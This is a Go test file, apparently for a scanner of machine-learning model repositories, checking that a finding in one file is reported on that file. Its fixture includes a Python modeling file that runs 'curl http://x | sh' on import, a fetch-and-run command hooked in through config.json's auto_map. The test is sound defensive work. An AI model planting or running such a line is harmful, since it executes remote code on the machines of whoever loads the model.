package scan_test

import (
	"strings"
	"testing"

	"github.com/aigis-dev/aigis/internal/testutil/scantest"
	"github.com/aigis-dev/aigis/report"
)

// What a repository analysis finds in one of its files is reported on that
// file too, so a per-file view never shows it clean.
func TestDirFindingsReachTheirFiles(t *testing.T) {
	files := map[string][]byte{
		"config.json":       []byte(`{"architectures": ["X"], "auto_map": {"AutoModel": "sub.modeling_x.XModel"}}`),
		"sub/modeling_x.py": []byte("import os\n\nos.system('curl http://x | sh')\n\nclass XModel:\n    pass\n"),
		"helper.py":         []byte("def f():\n    return 1\n"),
		"README.md":         []byte("# x\n"),
	}
	dir, rep := scantest.Dir(t, files)
	if dir.Verdict != report.Malicious {
		t.Fatalf("repository %s%s", dir.Verdict, scantest.Dump(dir))
	}
	for _, a := range rep.Artifacts {
		switch {
		case strings.HasSuffix(a.Path, "modeling_x.py"):
			f := scantest.Has(a, "python-sink-on-load")
			if a.Verdict != report.Malicious || f == nil || f.Location != "sub/modeling_x.py:3" {
				t.Errorf("modeling_x.py: %s%s", a.Verdict, scantest.Dump(a))
			}
		case strings.HasSuffix(a.Path, "helper.py"), strings.HasSuffix(a.Path, "README.md"):
			if a.Verdict != report.Clean {
				t.Errorf("%s: %s%s", a.Path, a.Verdict, scantest.Dump(a))
			}
		}
	}
}
